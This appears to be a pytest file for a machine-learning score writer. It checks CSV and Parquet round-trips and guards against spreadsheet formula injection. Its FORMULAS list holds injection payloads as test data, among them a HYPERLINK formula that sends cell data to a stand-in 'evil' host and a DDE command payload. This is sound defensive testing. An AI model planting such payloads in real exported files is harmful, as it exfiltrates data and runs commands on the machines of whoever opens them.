"""What is written reads back as what was scored."""

from __future__ import annotations

import csv

import numpy as np
import pandas as pd
import pytest

from ml.predict.output import score_writer


def scored(n_rows: int) -> pd.DataFrame:
    random = np.random.default_rng(n_rows)
    return pd.DataFrame(
        {
            "asset_id": pd.Series(['pump "7", north'] * n_rows, dtype="str"),
            "timestamp": pd.date_range("2024-01-01", periods=n_rows, freq="s", tz="UTC").as_unit("us"),
            "probability": random.random(n_rows, dtype=np.float32) ** 8,
            "label": random.integers(0, 2, n_rows),
        }
    )


@pytest.mark.parametrize("suffix", [".parquet", ".csv"])
def test_every_bit_of_every_part_reads_back(suffix, tmp_path):
    parts = [scored(5000), scored(1), scored(300)]
    file = tmp_path / f"scores{suffix}"
    with score_writer(file) as write:
        for part in parts:
            write(part)
    if suffix == ".csv":
        back = pd.read_csv(file, dtype={"probability": np.float32}, parse_dates=["timestamp"])
        with file.open(newline="") as lines:
            assert list(csv.reader(lines))[1][:2] == ['pump "7", north', "2024-01-01T00:00:00Z"]
    else:
        back = pd.read_parquet(file)
    whole = pd.concat(parts, ignore_index=True)
    assert back.columns.tolist() == ["asset_id", "timestamp", "probability", "label"]
    np.testing.assert_array_equal(
        back["probability"].to_numpy().view(np.uint32), whole["probability"].to_numpy().view(np.uint32)
    )
    assert (back["asset_id"] == whole["asset_id"]).all()
    assert (back["timestamp"] == whole["timestamp"]).all()
    assert (back["label"] == whole["label"]).all()


FORMULAS = [
    '=HYPERLINK("http://evil/?"&A1)', "@SUM(1+1)*cmd|' /C calc'!A0", "+1+1", "-2+3+cmd|x", "\t=1", " =1", "\r=1",
    "\n@x", "\u00a0=1", "\ufeff=1", "\uff1d1", "\x00=1", "-1\n=2", "=", "--1",
]  # fmt: skip
NO_FORMULAS = ["PUMP-01", "a=b", "-1", "+2.5", "-1e5", " -.5", "7", "", "'=1", "x\n=1", "µ@home", "泵"]


def written_assets(file, names):
    rows = scored(len(names))
    rows["asset_id"] = pd.Series(names, dtype="str")
    with score_writer(file) as write:
        write(rows)
    if file.suffix == ".parquet":
        return pd.read_parquet(file)["asset_id"].tolist()
    with file.open(newline="", encoding="utf-8") as lines:
        return [row[0] for row in csv.reader(lines)][1:]


def test_csv_holds_no_formula_that_a_spreadsheet_would_run(tmp_path):
    assert written_assets(tmp_path / "scores.csv", FORMULAS) == ["'" + name for name in FORMULAS]


def test_other_names_stay_as_they_are(tmp_path):
    assert written_assets(tmp_path / "scores.csv", NO_FORMULAS) == NO_FORMULAS
    assert written_assets(tmp_path / "scores.parquet", FORMULAS + NO_FORMULAS) == FORMULAS + NO_FORMULAS
